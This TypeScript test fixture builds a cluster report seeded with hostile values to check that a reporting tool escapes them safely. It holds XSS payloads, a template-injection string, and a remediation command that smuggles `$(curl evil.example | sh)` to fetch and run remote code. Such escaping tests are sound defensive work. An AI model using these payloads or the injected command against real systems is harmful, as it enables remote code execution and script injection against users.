import type { StoredRunReport } from '../../lib/deliver/history/delta.js';
import type { ClusterFacts } from '../../lib/types.js';
import { aCoverage, aFinding, aReport } from '../deliver/fixtures.js';

/**
 * Names an attacker who controls an account name, a cluster name, a tag, an image or a message
 * would choose: markup, a script end tag, a JSON breaker, line separators, a shell command.
 */
export const HOSTILE = {
  accountName: '<img src=x onerror="window.pwned=1">Payments',
  clusterName: '</script><script>window.pwned=2</script>',
  region: 'eu-west-1',
  image: '602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.9.3"><svg onload=window.pwned=3>',
  why: 'line\u2028separator\u2029and <!-- a comment --> and ]]> and \u0001 \\u003c/script>',
  command: 'aws eks update-addon --cluster-name "$(curl evil.example | sh)" && echo \'<b>bold</b>\'',
  tag: '{{constructor.constructor("window.pwned=4")()}}',
} as const;

export function hostileReport(): StoredRunReport {
  const finding = aFinding({
    accountName: HOSTILE.accountName,
    clusterName: HOSTILE.clusterName,
    region: HOSTILE.region,
    why: HOSTILE.why,
    remediation: { text: `Fix <b>${HOSTILE.clusterName}</b>`, commands: [HOSTILE.command] },
  });
  const cluster: ClusterFacts = {
    accountId: finding.accountId,
    accountName: HOSTILE.accountName,
    partition: 'aws',
    region: HOSTILE.region,
    clusterName: HOSTILE.clusterName,
    clusterArn: finding.clusterArn,
    kubernetesVersion: '1.30',
    clusterStatus: 'ACTIVE',
    tags: { team: HOSTILE.tag },
    cni: {
      managed: false,
      source: 'daemonset',
      version: 'v1.9.3',
      image: HOSTILE.image,
      officialImage: false,
      status: null,
      healthIssues: [],
      configurationValues: null,
      serviceAccountRoleArn: null,
      podIdentityAssociations: [],
    },
  };
  return {
    ...aReport({
      findings: [finding],
      accounts: [{ id: finding.accountId, name: HOSTILE.accountName, ou: '<i>ou</i>', state: 'ACTIVE' }],
      clusters: [cluster],
      coverage: aCoverage({ notes: [{ accountId: finding.accountId, region: HOSTILE.region, kind: 'no-kubernetes-access', message: HOSTILE.accountName }] }),
      errors: [{ accountId: finding.accountId, region: HOSTILE.region, stage: 'describe-addon', code: '<AccessDenied>', message: HOSTILE.clusterName }],
    }),
    newIds: [finding.id],
  };
}
